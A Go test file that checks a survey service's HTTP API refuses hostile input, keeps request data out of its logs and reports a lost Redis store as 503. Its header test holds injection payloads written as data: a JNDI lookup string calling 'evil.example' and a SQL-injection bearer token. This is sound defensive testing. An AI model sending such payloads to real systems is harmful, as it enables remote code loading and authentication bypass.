package server_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"barometer/server"
	"barometer/surveys"
	"barometer/surveys/hostiletest"
	"barometer/surveys/store/redistest"
	"barometer/surveys/store/storetest"
)

// Every body of the corpus is refused with a problem, whatever operation it is
// sent to, and nothing is kept.
func TestBadBodiesAreRefused(t *testing.T) {
	c := newClient(t)
	for _, in := range hostiletest.Inputs(t, "api.json_body") {
		body := in.Text(t)
		for _, path := range []string{"/api/v1/interactions", "/api/v1/responses"} {
			w := c.call("POST", path, body, "Content-Type", "application/json")
			if w.Code < 400 || w.Code > 499 || w.Header().Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s %s: %d %.200s (%s)", in.ID, path, w.Code, w.Body, in.Why)
			}
			if len(body) > 1<<20 && w.Code != http.StatusRequestEntityTooLarge {
				t.Errorf("%s %s: %d for %d bytes", in.ID, path, w.Code, len(body))
			}
			if w.Body.Len() > 2000 {
				t.Errorf("%s %s: an answer of %d bytes", in.ID, path, w.Body.Len())
			}
		}
	}
	if n := c.get("/projects")["total"]; n != 0.0 {
		t.Errorf("%v projects were kept", n)
	}
}

func (c *client) askNamed(t *testing.T, id, name string) (status int, answer string) {
	t.Helper()
	body := fmt.Sprintf(`{"id":%s,"customer":{"id":%s,"name":%s},"contact":{"name":%s}}`,
		quoted(t, id), quoted(t, "customer of "+id), jsonText(name), jsonText(name))
	w := c.call("POST", "/api/v1/interactions", body)
	return w.Code, w.Body.String()
}

func quoted(t *testing.T, s string) string {
	t.Helper()
	out, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// jsonText quotes a name but leaves its bytes as they are, valid or not.
func jsonText(s string) string {
	if utf8.ValidString(s) {
		out, _ := json.Marshal(s)
		return string(out)
	}
	return `"` + s + `"`
}

// Names come back as they were given, or are refused with the field named.
func TestNamesOfTheCorpus(t *testing.T) {
	c := newClient(t)
	for _, in := range hostiletest.Inputs(t, "recipient.name") {
		name := in.Text(t)
		status, answer := c.askNamed(t, in.ID, name)
		if in.Expected == "reject" {
			if status != 422 && status != 400 || !strings.Contains(answer, "body") {
				t.Errorf("%s: %d %s (%s)", in.ID, status, answer, in.Why)
			}
			continue
		}
		if status != http.StatusCreated {
			t.Errorf("%s: %d %s (%s)", in.ID, status, answer, in.Why)
			continue
		}
		if got := c.get("/customers/" + url.PathEscape("customer of "+in.ID))["name"]; got != name {
			t.Errorf("%s: the name is %q, want %q", in.ID, got, name)
		}
	}
}

func TestAddressesOfTheCorpusAtTheAPI(t *testing.T) {
	c := newClient(t)
	for _, in := range hostiletest.Inputs(t, "recipient.email") {
		address := in.Text(t)
		w := c.call("POST", "/api/v1/interactions", fmt.Sprintf(`{"id":%q,"contact":{"email":%s}}`, in.ID, quoted(t, address)))
		switch {
		case address == "": // nobody to ask: a skip
			if w.Code != http.StatusCreated || !strings.Contains(w.Body.String(), "no_usable_address") {
				t.Errorf("%s: %d %s", in.ID, w.Code, w.Body)
			}
		case in.Expected == "reject":
			if w.Code != 422 || fields(t, w) != "body.contact.email" || strings.Contains(w.Body.String(), address) {
				t.Errorf("%s: %d %s (%s)", in.ID, w.Code, w.Body, in.Why)
			}
		case w.Code != http.StatusCreated:
			t.Errorf("%s: %d %s (%s)", in.ID, w.Code, w.Body, in.Why)
		}
	}
}

// Parameters that a list has are checked; others are left alone.
func TestQueriesOfTheCorpus(t *testing.T) {
	c := newClient(t)
	for _, in := range hostiletest.Inputs(t, "query") {
		for _, path := range []string{"/projects", "/customers", "/responses"} {
			w := c.call("GET", "/api/v1"+path+in.Text(t), "")
			refused := w.Code == http.StatusUnprocessableEntity && fields(t, w) != ""
			if !refused && (in.Expected == "reject" || w.Code != http.StatusOK) {
				t.Errorf("%s %s: %d %s (%s)", in.ID, path, w.Code, w.Body, in.Why)
			}
		}
	}
	for query, wrong := range map[string]string{
		"?limit=0": "query.limit", "?limit=-1": "query.limit", "?limit=x": "query.limit",
		"?limit=999999999999999999999": "query.limit", "?cursor=***": "query.cursor",
		"?from=x&to=y": "query.to query.from", "?from=2026-02-01&to=2026-01-01": "query.from",
		"?from=1990-01-01": "query.from", "?order=evil": "query.order", "?from=2026-03-29T99:00:00": "query.from",
	} {
		w := c.call("GET", "/api/v1/projects"+query, "")
		if w.Code != 422 || fields(t, w) != wrong {
			t.Errorf("%s: %d %s, want %s", query, w.Code, w.Body, wrong)
		}
	}
}

func TestHeadersOfTheCorpus(t *testing.T) {
	c := newClient(t)
	tests := []struct {
		id, name, value string
		status          int
	}{
		{"RH02", "X-Forwarded-For", "127.0.0.1, 8.8.8.8", 201},
		{"RH08", "Content-Type", "text/plain", 415},
		{"RH08", "Content-Type", "application/x-www-form-urlencoded", 415},
		{"RH08", "Content-Type", "multipart/form-data; boundary=x", 415},
		{"RH11", "Accept-Language", "xx-\x00\x00", 201},
		{"RH12", "User-Agent", "${jndi:ldap://evil.example/a}", 201},
		{"RH14", "Authorization", "Bearer ' OR 1=1 --", 401},
		{"RH15", "Sec-Fetch-Site", "none", 201},
		{"", "Host", "evil.example", 201},
		{"", "Accept", "text/html", 201},
	}
	for i, tt := range tests {
		w := c.call("POST", "/api/v1/interactions", fmt.Sprintf(`{"id":"h-%d"}`, i), tt.name, tt.value)
		if w.Code != tt.status {
			t.Errorf("%s %s: %s: %d %s, want %d", tt.id, tt.name, tt.value, w.Code, w.Body, tt.status)
		}
	}
}

// The log says what happened by route and status, and nothing of what was said.
func TestTheLogHoldsNothingOfTheRequest(t *testing.T) {
	var log bytes.Buffer
	c := newClient(t)
	logged := openOffice(t, "https://ask.example", func(o *server.Options) {
		o.Store, o.Log = c.store, slog.New(slog.NewJSONHandler(&log, nil))
	})
	c.server = logged.server
	c.call("POST", "/api/v1/interactions", ticket)
	c.call("POST", "/api/v1/interactions", `{"id":"x","contact":{"email":"eve@localhost"}}`)
	c.call("POST", "/api/v1/responses", `{"id":"secret-id","choice":1,"responded_at":"2026-11-01T10:00:00Z","comment":"a comment"}`)
	c.call("GET", "/api/v1/customers/eve@acme.example?q=eve@acme.example", "")
	c.call("GET", "/api/v1/customers/eve@acme.example", "")
	c.call("GET", "/nothing/eve@acme.example", "")
	c.call("GET", "/r/0123456789", "")
	c.call("EVE", "/healthz", "")
	for _, secret := range []string{"acme.example", "Acme.Example", "eve@", "EVE", "a comment", "secret-id", "bmt_", "0123456789", "Söhne"} {
		if strings.Contains(log.String(), secret) {
			t.Errorf("the log holds %q:\n%s", secret, log.String())
		}
	}
	for _, wanted := range []string{`"route":"/api/v1/interactions","status":201`, `"route":"/api/v1/customers/:id","status":422`, `"route":"none","status":404`} {
		if !strings.Contains(log.String(), wanted) {
			t.Errorf("the log lacks %s:\n%s", wanted, log.String())
		}
	}
}

// A store out of reach is 503 and worth a second try; its words stay inside.
func TestNoRedisIsAProblemForLater(t *testing.T) {
	t.Parallel()
	redis := redistest.Start(t)
	st, _ := storetest.OpenAt(t, redis.Client())
	c := &client{office: openOffice(t, "https://ask.example", func(o *server.Options) { o.Store = st }), tokens: map[surveys.Right]string{}}
	if w := c.call("GET", "/readyz", ""); w.Code != http.StatusOK {
		t.Errorf("ready: %d", w.Code)
	}
	redis.Kill()
	for path, want := range map[string]int{"/healthz": 200, "/readyz": 503, "/api/v1/projects": 503} {
		if head := c.call("HEAD", path, ""); path != "/api/v1/projects" && head.Code != want {
			t.Errorf("HEAD %s: %d, want %d", path, head.Code, want)
		}
		w := c.call("GET", path, "", "Authorization", "Bearer bmt_x")
		if w.Code != want || strings.Contains(w.Body.String(), "dial") {
			t.Errorf("%s: %d %s, want %d", path, w.Code, w.Body, want)
		}
	}
}
